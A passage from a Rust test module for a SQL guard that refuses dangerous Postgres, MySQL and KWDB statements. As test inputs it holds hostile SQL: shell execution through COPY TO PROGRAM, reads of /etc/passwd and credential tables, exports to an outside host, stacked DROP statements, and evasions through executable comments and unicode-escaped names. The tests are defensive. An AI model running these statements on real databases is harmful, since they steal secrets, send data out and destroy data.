    fn decodes_unicode_identifiers_as_the_server_does() {
        assert_eq!(
            decode_unicode_ident("pg_terminat\\0065_backend", '\\'),
            Ok("pg_terminate_backend".into())
        );
        assert_eq!(
            decode_unicode_ident("d\\+000061t\\0061", '\\'),
            Ok("data".into())
        );
        assert_eq!(decode_unicode_ident("a!!b!0063", '!'), Ok("a!bc".into()));
        assert_eq!(decode_unicode_ident("a\\\\b", '\\'), Ok("a\\b".into()));
        assert_eq!(decode_unicode_ident("\\D83D\\DE00", '\\'), Ok("😀".into()));
        assert_eq!(decode_unicode_ident("plain", '\\'), Ok("plain".into()));
        for bad in [
            "\\00g1", "\\12", "\\+12", "\\D83Dx", "\\DE00", "\\0000", "a\\",
        ] {
            assert!(
                matches!(
                    decode_unicode_ident(bad, '\\'),
                    Err(SqlRefusal::UnicodeIdent(_))
                ),
                "{bad}"
            );
        }
        assert!(uescape_char("!").is_ok());
        for bad in ["a", "+", "'", "\"", " ", "!!", ""] {
            assert!(uescape_char(bad).is_err(), "{bad:?}");
        }
    }

    #[test]
    fn resolves_function_names_as_the_server_does() {
        let refused = |sql: &str| analyze_for(Engine::Postgres, sql).err();
        let terminate = Some(SqlRefusal::ForbiddenFunction("pg_terminate_backend".into()));
        for sql in [
            r#"SELECT U&"pg_terminat\0065_backend"(pid) FROM pg_stat_activity"#,
            r#"SELECT u&"pg_terminate_backen\+000064"(1)"#,
            r#"SELECT U&"pg_terminat!0065_backend" UESCAPE '!'(1)"#,
            r#"SELECT U&"pg_terminat!0065_backend" /* c */ uescape '!' (1)"#,
            r#"SELECT U&"pg_catalog".U&"pg_terminate_backen\0064"(1)"#,
            r#"SELECT "pg_catalog"."pg_terminate_backend"(1)"#,
            r#"SELECT PG_TERMINATE_BACKEND(1)"#,
            r#"SELECT pg_catalog . pg_terminate_backend /* x */ (1)"#,
            r#"SELECT * FROM pg_terminate_backend(1)"#,
            r#"SELECT * FROM victims, LATERAL pg_terminate_backend(1) AS x"#,
            r#"WITH x AS (SELECT pg_terminate_backend(1)) SELECT * FROM x"#,
            r#"SELECT (SELECT pg_terminate_backend(1))"#,
        ] {
            assert_eq!(refused(sql), terminate, "{sql}");
        }
        // Quoted names keep their case: "PG_TERMINATE_BACKEND" is another (missing) function.
        assert_eq!(
            functions(r#"SELECT "PG_TERMINATE_BACKEND"(1)"#),
            ["PG_TERMINATE_BACKEND"]
        );
        // `U & "x"` with spaces is a bitwise and, not a U& identifier.
        assert_eq!(functions(r#"SELECT u & "lower"('a') FROM t"#), ["lower"]);
        assert_eq!(
            functions(r#"SELECT Pg_Catalog.Pg_Sleep(1), "public"."F"(2), now()"#),
            ["now", "pg_catalog.pg_sleep", "public.F"]
        );
        assert_eq!(functions("SELECT * FROM pg_sleep(1)"), ["pg_sleep"]);
        // Attribute notation: `v.f` may call `f(v)`.
        let attrs: Vec<_> = analyze_for(Engine::Postgres, "SELECT v.name FROM victims v")
            .map(|a| a.functions)
            .unwrap_or_default();
        assert!(
            attrs.iter().any(|f| f.name == "name" && f.attribute),
            "{attrs:?}"
        );
        // Table sampling methods are not calls.
        assert!(
            !functions("SELECT * FROM victims TABLESAMPLE SYSTEM (10)").contains(&"system".into())
        );
        // A string that ends at a backslash (standard strings) does not hide what follows.
        assert_eq!(
            refused("SELECT 'a\\', pg_terminate_backend(1) --'"),
            terminate
        );
        assert_eq!(
            functions("SELECT 'pg_terminate_backend(1)', $$pg_sleep(1)$$, 'pg_sleep'::regproc"),
            Vec::<String>::new()
        );
    }

    #[test]
    fn refuses_what_reaches_outside() {
        assert!(matches!(
            classify("DROP DATABASE metadb"),
            Err(SqlRefusal::Forbidden(_))
        ));
        assert!(matches!(
            classify("CREATE ROLE evil SUPERUSER"),
            Err(SqlRefusal::Forbidden(_))
        ));
        assert!(matches!(
            classify("COPY principal TO PROGRAM 'sh'"),
            Err(SqlRefusal::Forbidden(_))
        ));
        assert!(matches!(
            classify("SET ROLE postgres"),
            Err(SqlRefusal::Forbidden(_))
        ));
        assert!(matches!(
            classify("SELECT 1; DROP TABLE principal"),
            Err(SqlRefusal::NotOneStatement(2))
        ));
        assert_eq!(
            classify("SELECT * FROM dblink('dbname=other', 'select 1') AS t(a int)"),
            Err(SqlRefusal::ForbiddenFunction("dblink".into()))
        );
        assert_eq!(
            classify("SELECT pg_read_file('/etc/passwd')"),
            Err(SqlRefusal::ForbiddenFunction("pg_read_file".into()))
        );
        assert_eq!(
            classify("SELECT public.dblink_exec('x', 'y')"),
            Err(SqlRefusal::ForbiddenFunction("dblink_exec".into()))
        );
        assert_eq!(
            classify("SELECT dblink_open('c', 'select 1')"),
            Err(SqlRefusal::SqlTextFunction("dblink_open".into()))
        );
        assert!(matches!(
            classify("SELEC nonsense"),
            Err(SqlRefusal::Unparseable(_))
        ));
        for sql in ["SELECT SLEEP(10)", "SELECT BENCHMARK(1000000, md5('x'))"] {
            assert!(
                matches!(
                    classify_for(Engine::MySql, sql),
                    Err(SqlRefusal::Refused { .. })
                ),
                "{sql}"
            );
        }
    }

    #[test]
    fn functions_that_run_sql_text_are_refused_everywhere_stored_expressions_included() {
        let xml = Some(SqlRefusal::SqlTextFunction("query_to_xml".into()));
        for sql in [
            "SELECT query_to_xml('select 1', true, true, '')",
            r#"SELECT U&"query_to_xm\006c"('select 1', true, true, '')"#,
            "INSERT INTO t (a) SELECT query_to_xml('select 1', true, true, '')::text",
            "CREATE TABLE t (a text DEFAULT (query_to_xml('select 1', true, true, ''))::text)",
            "CREATE TABLE t (a text CHECK (query_to_xml('select 1', true, true, '') IS NOT NULL))",
            "CREATE TABLE t (a text, b text GENERATED ALWAYS AS (query_to_xml('x', true, true, '')::text) STORED)",
            "CREATE INDEX i ON t ((query_to_xml('select 1', true, true, '')::text))",
            "CREATE INDEX i ON t (a) WHERE query_to_xml('select 1', true, true, '') IS NOT NULL",
            "CREATE VIEW v AS SELECT query_to_xml('select 1', true, true, '')",
            "ALTER TABLE t ALTER COLUMN a SET DEFAULT query_to_xml('select 1', true, true, '')::text",
            "ALTER TABLE t ADD CONSTRAINT c CHECK (query_to_xml('select 1', true, true, '') IS NOT NULL)",
            "ALTER TABLE t ADD COLUMN b text DEFAULT query_to_xml('select 1', true, true, '')::text",
            "ALTER TABLE t ALTER COLUMN a TYPE text USING query_to_xml('select 1', true, true, '')::text",
        ] {
            assert_eq!(analyze_for(Engine::Postgres, sql).err(), xml, "{sql}");
        }
        for sql in [
            "SELECT * FROM ts_stat('select v from t')",
            "SELECT cursor_to_xml('c', 1, true, true, '')",
            "SELECT pg_catalog.database_to_xml(true, true, '')",
            "SELECT table_to_xmlschema('t', true, true, '')",
        ] {
            assert!(
                matches!(classify(sql), Err(SqlRefusal::SqlTextFunction(_))),
                "{sql}"
            );
        }
        for sql in [
            "CREATE POLICY p ON t USING (true)",
            "CREATE TRIGGER tr BEFORE INSERT ON t FOR EACH ROW EXECUTE FUNCTION f()",
            "CREATE DOMAIN d AS text",
            "CREATE FUNCTION f() RETURNS int AS 'select 1' LANGUAGE sql",
        ] {
            assert!(classify(sql).is_err(), "{sql}");
        }
        // Volatile functions are normal in stored expressions on a ddl grant.
        assert_eq!(
            classify("ALTER TABLE t ALTER COLUMN id SET DEFAULT nextval('t_id_seq')"),
            Ok(Access::Ddl)
        );
    }

    fn mysql(sql: &str) -> Result<Access, SqlRefusal> {
        analyze_bound(Engine::MySql, Some("app"), sql).map(|a| a.access)
    }

    fn refused_on_every_grant(sql: &str) -> bool {
        matches!(
            mysql(sql),
            Err(SqlRefusal::ExecutableComment(_)
                | SqlRefusal::Refused { .. }
                | SqlRefusal::ForbiddenFunction(_)
                | SqlRefusal::SqlTextFunction(_)
                | SqlRefusal::Forbidden(_)
                | SqlRefusal::Unparseable(_)
                | SqlRefusal::OutsideSchema { .. })
        )
    }

    #[test]
    fn mysql_executable_comments_are_refused_wherever_they_hide() {
        for sql in [
            "/*!DROP TABLE IF EXISTS victim, `*/SELECT 1/*!`*/",
            "SELECT 1 /*!, LOAD_FILE('/etc/hostname') */",
            "SELECT * FROM t /*! INTO OUTFILE '/tmp/x' */",
            "SELECT * FROM t /*!50000 INTO OUTFILE '/tmp/x' */",
            "SELECT * FROM t /*!99999 INTO OUTFILE '/tmp/x' */",
            "SELECT 1 /*M!100000 , LOAD_FILE('/etc/hostname') */",
            "SELECT 1 /*m!100000 , 2 */",
            "/*!SET STATEMENT max_statement_time=0 FOR*/ SELECT SLEEP(330)",
            "/*!CREATE TRIGGER tr BEFORE INSERT ON t FOR EACH ROW SET NEW.a = 1*/",
            "SELECT (SELECT 1 /*!, 2 */) FROM t",
            "SELECT /*+ SET_VAR(max_execution_time=0) */ 1",
            "SELECT '/*!' AS x",
            "SELECT \"/*!50000 x */\" FROM t",
            "SELECT 1 # /*! hidden */\n",
        ] {
            assert!(
                matches!(mysql(sql), Err(SqlRefusal::ExecutableComment(_))),
                "{sql}: {:?}",
                mysql(sql)
            );
        }
        let message = mysql("SELECT 1 /*!, 2 */").err().map(|e| e.to_string());
        assert!(
            message
                .as_deref()
                .is_some_and(|m| m.contains("every grant") && m.contains("server runs")),
            "{message:?}"
        );
    }

    #[test]
    fn mysql_comments_mean_what_they_mean_on_the_server() {
        // `--` needs a following space in MySQL; a tab or newline also starts a comment there,
        // but not in the tokenizer: refused rather than read differently.
        for sql in [
            "SELECT 1 --\t'\n, LOAD_FILE('/etc/hostname') -- '",
            "SELECT 1 --\n, LOAD_FILE('/etc/hostname')",
            "SELECT 1 --",
        ] {
            assert!(
                matches!(mysql(sql), Err(SqlRefusal::Refused { .. })),
                "{sql:?}: {:?}",
                mysql(sql)
            );
        }
        // Text after `-- ` and `#` up to the line end is a comment for both; the next line is not.
        assert!(refused_on_every_grant(
            "SELECT 1 -- x\n, LOAD_FILE('/etc/hostname')"
        ));
        assert!(refused_on_every_grant(
            "SELECT 1 # x\n, LOAD_FILE('/etc/hostname')"
        ));
        assert_eq!(mysql("SELECT 1 -- LOAD_FILE('x')"), Ok(Access::Read));
        assert_eq!(mysql("SELECT 1 # LOAD_FILE('x')"), Ok(Access::Read));
        assert_eq!(mysql("SELECT 1 - -2"), Ok(Access::Read));
        // Where a string ends must not depend on NO_BACKSLASH_ESCAPES.
        for sql in [
            "SELECT 'a\\', LOAD_FILE('/etc/hostname') -- '",
            "SELECT 'a\\' ' , 1",
            "SELECT \"a\\\", 1 -- \"",
        ] {
            assert!(
                matches!(mysql(sql), Err(SqlRefusal::Refused { .. })),
                "{sql:?}: {:?}",
                mysql(sql)
            );
        }
        assert_eq!(mysql("SELECT 'a\\\\b' FROM t"), Ok(Access::Read));
    }

    #[test]
    fn mysql_function_names_are_normalised_before_every_check() {
        for sql in [
            "SELECT `load_file`('/etc/hostname')",
            "SELECT `LOAD_FILE`('/etc/hostname')",
            "SELECT Load_File('/etc/hostname')",
            "SELECT \"load_file\"('/etc/hostname')",
            "SELECT load_file /* x */ ('/etc/hostname')",
            "SELECT `app`.`load_file`('/etc/hostname')",
            "SELECT `app` . `load_file` ('/etc/hostname')",
            "SELECT * FROM t WHERE id IN (SELECT LENGTH(load_file('/etc/hostname')))",
            "SELECT SLEEP(330)",
            "SELECT `sleep`(1)",
            "SELECT BENCHMARK(1000000, MD5('x'))",
            "SELECT GET_LOCK('x', 10)",
            "SELECT release_lock('x')",
            "SELECT RELEASE_ALL_LOCKS()",
            "SELECT IS_FREE_LOCK('x')",
            "SELECT `is_used_lock`('x')",
            "SELECT MASTER_POS_WAIT('f', 4)",
            "SELECT sys_exec('id')",
            "SELECT LOAD_F\u{130}LE('/etc/hostname')",
            "INSERT INTO t (a) VALUES (LOAD_FILE('/etc/hostname'))",
            "CREATE TABLE t2 (a TEXT AS (LOAD_FILE('/etc/hostname')))",
        ] {
            let refusal = mysql(sql);
            assert!(
                matches!(
                    refusal,
                    Err(SqlRefusal::Refused { .. } | SqlRefusal::ForbiddenFunction(_))
                ),
                "{sql}: {refusal:?}"
            );
        }
        // Columns may be called like functions; only calls are checked.
        assert_eq!(
            mysql("SELECT t.sleep, t.benchmark FROM t"),
            Ok(Access::Read)
        );
        assert_eq!(
            mysql("SELECT LOWER(`name`), NOW(), COUNT(*) FROM `t`"),
            Ok(Access::Read)
        );
    }

    #[test]
    fn mysql_refuses_what_an_adapter_never_needs_on_every_grant() {
        for sql in [
            "SELECT * FROM t INTO OUTFILE '/tmp/x'",
            "SELECT * INTO OUTFILE '/tmp/x' FROM t",
            "SELECT * FROM t into dumpfile '/tmp/x'",
            "SELECT 1 INTO @v",
            "SELECT a FROM t INTO @`v`",
            "SELECT @v := 42",
            "SELECT @v",
            "SELECT @'v'",
            "SELECT @`v`",
            "SET @v = 1",
            "SET STATEMENT max_statement_time=0 FOR SELECT 1",
            "set statement max_statement_time=0 for select 1",
            "SET SESSION max_statement_time = 0",
            "SET NAMES latin1",
            "LOAD DATA INFILE '/etc/passwd' INTO TABLE t",
            "LOAD DATA LOCAL INFILE '/etc/passwd' INTO TABLE t",
            "LOAD XML INFILE '/tmp/x.xml' INTO TABLE t",
            "HANDLER t OPEN",
            "HANDLER t READ FIRST",
            "DO SLEEP(1)",
            "DO 1",
            "CALL p()",
            "LOCK TABLES t WRITE",
            "UNLOCK TABLES",
            "USE other",
            "USE app",
            "PREPARE s FROM 'SELECT 1'",
            "EXECUTE s",
            "EXECUTE IMMEDIATE 'DROP TABLE t'",
            "CREATE TRIGGER tr BEFORE INSERT ON t FOR EACH ROW SET NEW.a = 1",
            "CREATE DEFINER = `root`@`localhost` TRIGGER tr BEFORE INSERT ON t FOR EACH ROW SET NEW.a = 1",
            "CREATE PROCEDURE p() SELECT 1",
            "CREATE DEFINER=root@localhost PROCEDURE p() SELECT 1",
            "CREATE FUNCTION f() RETURNS INT RETURN 1",
            "CREATE AGGREGATE FUNCTION f() RETURNS INT BEGIN RETURN 1; END",
            "CREATE EVENT e ON SCHEDULE EVERY 1 SECOND DO DELETE FROM t",
            "CREATE OR REPLACE DEFINER = CURRENT_USER EVENT e ON SCHEDULE EVERY 1 SECOND DO DELETE FROM t",
            "ALTER EVENT e DISABLE",
            "DROP PROCEDURE p",
            "DROP TRIGGER tr",
            "CREATE DEFINER = `root`@`localhost` SQL SECURITY DEFINER VIEW v AS SELECT 1",
            "CREATE ALGORITHM = MERGE DEFINER=root@localhost VIEW v AS SELECT 1",
            "CREATE TABLE x (a INT) ENGINE=CONNECT TABLE_TYPE=DOS FILE_NAME='/etc/passwd'",
            "CREATE TABLE x (a INT) ENGINE = FEDERATED CONNECTION='mysql://u@h/db/t'",
            "CREATE TABLE x (a INT) engine spider",
            "ALTER TABLE t ENGINE=CONNECT",
            "CREATE TABLE x (a INT) DATA DIRECTORY = '/tmp'",
            "CREATE TABLE x (a INT) INDEX DIRECTORY = '/tmp'",
            "KILL QUERY 1",
            "SHOW GRANTS",
            "FLUSH PRIVILEGES",
            "GRANT ALL ON *.* TO 'u'@'%'",
            "CREATE USER 'u'@'%'",
            "INSTALL SONAME 'ha_connect'",
            "BEGIN NOT ATOMIC SELECT 1; END",
            "BEGIN",
            "COMMIT",
            "XA START 'x'",
            "SAVEPOINT s",
            "SELECT * FROM information_schema.processlist",
            "SELECT info FROM INFORMATION_SCHEMA.`PROCESSLIST`",
            "CREATE TABLE x (a INT) ENGINE=MRG_MyISAM UNION=(t)",
            "DESCRIBE t",
            "ANALYZE SELECT * FROM t",
            "SHOW PROCESSLIST",
        ] {
            assert!(refused_on_every_grant(sql), "{sql}: {:?}", mysql(sql));
        }
        // Each refusal says what and why, and what to do instead.
        let text = |sql: &str| mysql(sql).err().map(|e| e.to_string()).unwrap_or_default();
        assert!(text("SELECT @v := 42").contains("user variable `@v`"));
        assert!(text("SELECT * FROM t INTO OUTFILE '/x'").contains("writes a file"));
        assert!(
            text("SET STATEMENT max_statement_time=0 FOR SELECT 1").contains("max_statement_time")
        );
        assert!(text("SELECT GET_LOCK('x', 1)").contains("get_lock"));
        // System variables are readable.
        assert_eq!(
            mysql("SELECT @@version, @@session.sql_mode"),
            Ok(Access::Read)
        );
    }

    #[test]
    fn mysql_ddl_needs_ddl_and_sequences_need_write() {
        for sql in [
            "CREATE TABLE x (a INT)",
            "CREATE TEMPORARY TABLE x (a INT)",
            "CREATE TABLE x (a INT) ENGINE=InnoDB",
            "CREATE TABLE x (a INT) ENGINE = Aria",
            "ALTER TABLE t ADD COLUMN b INT",
            "DROP TABLE t",
            "DROP TABLE IF EXISTS t",
            "TRUNCATE TABLE t",
            "CREATE INDEX i ON t (a)",
            "CREATE VIEW v AS SELECT a FROM t",
            "CREATE TABLE x AS SELECT * FROM t",
        ] {
            assert_eq!(mysql(sql), Ok(Access::Ddl), "{sql}");
        }
        for sql in [
            "SELECT NEXTVAL(s)",
            "SELECT nextval(`s`)",
            "SELECT SETVAL(s, 10)",
            "INSERT INTO t VALUES (1)",
            "REPLACE INTO t VALUES (1)",
            "UPDATE t SET a = 1",
            "DELETE FROM t",
            "SELECT * FROM t FOR UPDATE",
        ] {
            assert_eq!(mysql(sql), Ok(Access::Write), "{sql}");
        }
        assert_eq!(mysql("SELECT LASTVAL(s)"), Ok(Access::Read));
        // The parser does not know `NEXT VALUE FOR`: refused, wherever the sequence is.
        assert!(mysql("SELECT NEXT VALUE FOR s").is_err());
        assert!(mysql("SELECT NEXT VALUE FOR other.s").is_err());
    }

    #[test]
    fn mysql_statements_stay_in_the_bound_schema() {
        let outside = |sql: &str| match mysql(sql) {
            Err(SqlRefusal::OutsideSchema { schema, .. }) => Some(schema),
            _ => None,
        };
        for (sql, schema) in [
            ("SELECT * FROM other.secret", "other"),
            ("SELECT * FROM `other`.`secret`", "other"),
            ("SELECT * FROM `other` . `secret`", "other"),
            ("SELECT * FROM other /* x */ . secret", "other"),
            ("SELECT * FROM \"other\".\"secret\"", "other"),
            (
                "SELECT user, authentication_string FROM mysql.user",
                "mysql",
            ),
            ("SELECT * FROM MYSQL.user", "MYSQL"),
            (
                "SELECT * FROM performance_schema.threads",
                "performance_schema",
            ),
            ("SELECT * FROM sys.processlist", "sys"),
            (
                "SELECT * FROM t JOIN other.secret s ON s.id = t.id",
                "other",
            ),
            (
                "SELECT * FROM t WHERE id IN (SELECT id FROM other.secret)",
                "other",
            ),
            ("SELECT other.secret.x FROM t", "other"),
            ("SELECT (SELECT x FROM other.secret LIMIT 1)", "other"),
            (
                "WITH c AS (SELECT * FROM other.secret) SELECT * FROM c",
                "other",
            ),
            ("SELECT * FROM t AS other, other.secret", "other"),
            ("SELECT other.f(1)", "other"),
            ("SELECT NEXTVAL(other.s)", "other"),
            ("INSERT INTO other.secret VALUES (1)", "other"),
            ("INSERT INTO t SELECT * FROM other.secret", "other"),
            ("UPDATE other.secret SET a = 1", "other"),
            ("DELETE FROM other.secret", "other"),
            ("DROP TABLE other.secret", "other"),
            ("CREATE TABLE other.x (a INT)", "other"),
            ("CREATE TABLE x LIKE other.secret", "other"),
            ("ALTER TABLE t RENAME TO other.t", "other"),
            ("CREATE VIEW v AS SELECT * FROM other.secret", "other"),
            ("TRUNCATE TABLE other.secret", "other"),
            (
                "INSERT INTO t SELECT * FROM information_schema.tables",
                "information_schema",
            ),
            ("SELECT * FROM App.t", "App"),
            // A table or alias named like the schema does not make `other.x` a column.
            ("CREATE TABLE other LIKE other.secret", "other"),
            ("ALTER TABLE other RENAME TO other.t", "other"),
            ("INSERT INTO other.secret SELECT * FROM t AS other", "other"),
            ("CREATE TABLE other.x AS SELECT * FROM t AS other", "other"),
            ("CREATE VIEW other.v AS SELECT * FROM t AS other", "other"),
            ("CREATE INDEX i ON other.secret (a)", "other"),
            (
                "DELETE FROM other.secret USING other.secret, t AS other",
                "other",
            ),
            (
                "UPDATE other.secret AS s JOIN t AS other ON s.id = other.id SET s.a = 1",
                "other",
            ),
            (
                "SELECT * FROM t AS other WHERE a IN (SELECT a FROM other.secret)",
                "other",
            ),
            ("SELECT other.f(1) FROM t AS other", "other"),
            ("SELECT NEXTVAL(other.s) FROM t AS other", "other"),
            ("SELECT * FROM `1other`.secret", "1other"),
            ("SELECT * FROM 1other.secret", "1other"),
        ] {
            assert_eq!(
                outside(sql).as_deref(),
                Some(schema),
                "{sql}: {:?}",
                mysql(sql)
            );
        }
        let message = mysql("SELECT * FROM mysql.user")
            .err()
            .map(|e| e.to_string());
        assert!(
            message.as_deref().is_some_and(|m| m.contains("`mysql`")
                && m.contains("database `app`")
                && m.contains("fleet file")),
            "{message:?}"
        );
        for sql in [
            "SELECT * FROM t",
            "SELECT * FROM app.t",
            "SELECT * FROM `app`.`t`",
            "SELECT t.a, s.b FROM t JOIN u AS s ON s.id = t.id",
            "SELECT app.t.a FROM app.t",
            "SELECT x.a FROM (SELECT 1 AS a) AS x",
            "WITH c AS (SELECT 1 AS a) SELECT c.a FROM c",
            "SELECT table_name FROM information_schema.tables WHERE table_schema = DATABASE()",
            "SELECT * FROM INFORMATION_SCHEMA.COLUMNS",
            "SELECT @@session.time_zone",
        ] {
            assert_eq!(mysql(sql), Ok(Access::Read), "{sql}");
        }
        // The parser does not know multi-table UPDATE lists: refused.
        assert!(mysql("UPDATE other.secret, t AS other SET other.a = 1").is_err());
        // Without a bound database, nothing but information_schema may be named.
        assert!(matches!(
            analyze_for(Engine::MySql, "SELECT * FROM app.t"),
            Err(SqlRefusal::OutsideSchema { .. })
        ));
    }

    fn kwdb(sql: &str) -> Result<Access, SqlRefusal> {
        analyze_for(Engine::Kwdb, sql).map(|a| a.access)
    }

    #[test]
    fn kwdb_dialect_refusals() {
        for sql in [
            "SET CLUSTER SETTING server.time_until_store_dead = '1m'",
            "set cluster setting kv.rangefeed.enabled = true",
            "SET my.custom_setting = 'x'",
            "SET application_name = 'x'",
            "RESET ALL",
            "CANCEL QUERY '1'",
            "CANCEL SESSION '1'",
            "CANCEL JOBS (SELECT job_id FROM [SHOW JOBS])",
            "PAUSE JOB 1",
            "RESUME JOB 1",
            "BACKUP DATABASE shop TO 'http://10.0.0.9/x'",
            "RESTORE DATABASE shop FROM 'nodelocal://2/x'",
            "CREATE CHANGEFEED FOR TABLE t INTO 'kafka://10.0.0.9:9092'",
            "EXPERIMENTAL CHANGEFEED FOR t",
            "SELECT * FROM t AS OF SYSTEM TIME '-1h'",
            "SELECT * FROM t AS OF SYSTEM TIME follower_read_timestamp()",
            "SELECT * FROM [DELETE FROM t RETURNING id]",
            "SELECT * FROM [ SHOW JOBS ]",
            "SELECT * FROM [53 AS t]",
            "SELECT crdb_internal.force_panic('x')",
            "SELECT CRDB_INTERNAL.unsafe_upsert_descriptor(1, 'x')",
            "SELECT kwdb_internal.set_vmodule('x')",
            "SELECT \"crdb_internal\".\"force_error\"('x', 'y')",
            "SELECT * FROM crdb_internal.cluster_queries",
            "SELECT * FROM shop.crdb_internal.node_sessions",
            "SELECT * FROM kwdb_internal.cluster_settings",
            "SELECT username, \"hashedPassword\" FROM system.users",
            "SELECT * FROM system.public.settings",
            "SHOW QUERIES",
            "SHOW CLUSTER SESSIONS",
            "SHOW STATEMENTS",
            "SHOW TRACE FOR SESSION",
            "SHOW JOBS SELECT id FROM t",
            "SHOW JOBS (SELECT crdb_internal.force_panic('x'))",
            "SHOW JOBS WHEN COMPLETE [SELECT 1]",
            "EXPORT INTO CSV 'nodelocal://1/e' FROM SELECT crdb_internal.force_panic('x')",
        ] {
            let refusal = kwdb(sql);
            assert!(refusal.is_err(), "{sql}: {refusal:?}");
        }
        assert!(
            kwdb("SET CLUSTER SETTING a = 1")
                .err()
                .is_some_and(|e| e.to_string().contains("cluster settings")),
        );
        // What the bundled KWDB adapter sends still passes.
        for (sql, access) in [
            ("SELECT version()", Access::Read),
            ("SHOW DATABASES", Access::Read),
            ("SHOW JOBS", Access::Read),
            (
                "SELECT sum((metrics->>'ranges.unavailable')::DECIMAL)::INT, sum((metrics->>'ranges.underreplicated')::DECIMAL)::INT FROM kwdb_internal.kv_store_status",
                Access::Read,
            ),
            ("SELECT count(*) FROM shop.orders", Access::Read),
            (
                "EXPORT INTO CSV \"nodelocal://1/upshift/export-1/shop\" FROM DATABASE shop WITH privileges, comment",
                Access::Backup,
            ),
            (
                "EXPORT USERS TO SQL \"nodelocal://1/upshift/export-1/users\"",
                Access::Backup,
            ),
            (
                "EXPORT CLUSTER SETTING TO SQL \"nodelocal://1/upshift/export-1/settings\"",
                Access::Backup,
            ),
            (
                "IMPORT DATABASE CSV DATA (\"nodelocal://1/upshift/export-1/shop\") WITH privileges",
                Access::Restore,
            ),
            (
                "IMPORT CLUSTER SETTING SQL DATA (\"nodelocal://1/upshift/export-1/settings/clustersetting.sql\")",
                Access::Restore,
            ),
        ] {
            assert_eq!(kwdb(sql), Ok(access), "{sql}");
        }
        assert_eq!(kwdb("SELECT ARRAY[1, 2][1]"), Ok(Access::Read));
    }

    #[test]
    fn kwdb_export_paths_cannot_hide_behind_escapes_comments_or_parameters() {
        for sql in [
            // The real target is an escape string; a harmless option carries the checked path.
            "EXPORT INTO CSV e'http\\x3a//10.0.0.9:8000/x' FROM DATABASE shop WITH nullas = 'nodelocal://1/ok'",
            "EXPORT INTO CSV U&'http\\003a//10.0.0.9/x' FROM DATABASE shop WITH nullas = 'nodelocal://1/ok'",
            "EXPORT INTO CSV $$http://10.0.0.9/x$$ FROM DATABASE shop",
            "EXPORT INTO CSV $1 FROM DATABASE shop WITH nullas = 'nodelocal://1/ok'",
            // A quote inside a comment does not hide a second statement.
            "EXPORT INTO CSV 'nodelocal://1/ok' FROM DATABASE shop -- \"\n; DROP DATABASE shop; --\"",
            "EXPORT INTO CSV 'nodelocal://1/ok' FROM DATABASE shop /* ' */; DROP DATABASE shop",
            "EXPORT INTO CSV 'nodelocal://1/../../etc' FROM DATABASE shop",
            "EXPORT INTO CSV 'nodelocal://1/ok\\..\\..' FROM DATABASE shop",
        ] {
            assert!(kwdb(sql).is_err(), "{sql}: {:?}", kwdb(sql));
        }
        assert_eq!(
            kwdb(
                "/* a comment */ EXPORT INTO CSV 'nodelocal://1/e/shop' FROM DATABASE shop WITH delimiter = ';'"
            ),
            Ok(Access::Backup)
        );
    }

    #[test]
    fn fingerprints_drop_literals_and_comments() {
        let a = fingerprint(Engine::Postgres, "SELECT * FROM t WHERE id = 1");
        let b = fingerprint(Engine::Postgres, "select *  from T where id=2 -- two");
        let c = fingerprint(Engine::Postgres, "SELECT * FROM t WHERE name = 'secret'");
        assert_eq!(a, b);
        assert_eq!(a.text, "select * from t where id = ?");
        assert_eq!(a.sha256.len(), 64);
        assert_ne!(a.sha256, c.sha256);
        assert!(!c.text.contains("secret"), "{}", c.text);
        assert_eq!(
            fingerprint(Engine::Postgres, "SELECT $$x$$, E'y', U&'z', x'ff', $1").text,
            "select ? , ? , ? , ? , $1"
        );
        assert_eq!(
            fingerprint(Engine::Postgres, r#"SELECT U&"pg_slee\0070"(1)"#).text,
            r#"select "pg_sleep" ( ? )"#
        );
        // MySQL: an executable comment is marked, its content not kept.
        assert_eq!(
            fingerprint(Engine::MySql, "/*!DROP TABLE victim*/ SELECT 1 /* plain */").text,
            "/*!…*/ select ?"
        );
        let long = format!("SELECT {}", "a, ".repeat(1000) + "b");
        let audit = fingerprint(Engine::Postgres, &long).audit("read");
        assert!(audit.fingerprint.len() <= FINGERPRINT_TEXT_BYTES + 3);
        assert_eq!(audit.class, "read");
        assert_eq!(
            fingerprint(Engine::Postgres, "SELECT 'unterminated").text,
            "(not tokenizable)"
        );
    }
}
